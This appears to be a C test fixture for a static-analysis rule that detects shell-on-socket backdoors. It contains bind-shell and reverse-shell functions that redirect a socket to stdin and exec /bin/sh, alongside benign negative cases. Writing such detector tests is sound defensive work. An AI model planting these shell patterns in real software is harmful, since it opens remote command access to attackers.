/* SPDX-License-Identifier: Apache-2.0 */
/* backdoor/shell-on-socket: what it finds, then what it must leave alone. */
#include "shell-on-socket.h"

int finds_who_connects(int s)
{
	int c = accept(s, NULL, NULL);
	if (c < 0 || dup2(c, 0) < 0 || dup2(c, 1) < 0) /* expect: backdoor/shell-on-socket */
		return -1;
	return execl("/bin/sh", "sh", "-i", (char *)NULL);
}

int finds_a_call_back(const struct sockaddr *to, socklen_t size)
{
	int s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0 || connect(s, to, size) != 0)
		return -1;
	dup2(s, 0); /* expect: backdoor/shell-on-socket */
	return execlp("sh", "sh", (char *)NULL);
}

static void take(int c)
{
	dup2(c, 0); /* expect: backdoor/shell-on-socket */
}
int finds_across_functions(int s)
{
	int c = accept(s, NULL, NULL);
	if (c < 0)
		return -1;
	take(c);
	return execl("/bin/sh", "sh", (char *)NULL);
}

int shell_on_socket_take(int c);
int finds_across_files(int s)
{
	int c = accept(s, NULL, NULL);
	if (c < 0)
		return -1;
	return shell_on_socket_take(c);
}

#define AS_INPUT(c) dup2(c, 0)
int finds_through_a_macro(int s)
{
	int c = accept(s, NULL, NULL);
	return c < 0 ? -1 : AS_INPUT(c); /* expect: backdoor/shell-on-socket */
}

int allows_output(int s)
{
	int c = accept(s, NULL, NULL);
	return c < 0 ? -1 : dup2(c, 2);
}

int allows_a_pipe(void)
{
	int ends[2];
	if (pipe(ends) != 0)
		return -1;
	dup2(ends[0], 0);
	return execl("/bin/sh", "sh", (char *)NULL);
}

int allows_another_place(int s)
{
	int c = accept(s, NULL, NULL);
	return c < 0 ? -1 : dup2(c, 7);
}

int allows_what_is_given(int fd)
{
	return dup2(fd, 0);
}
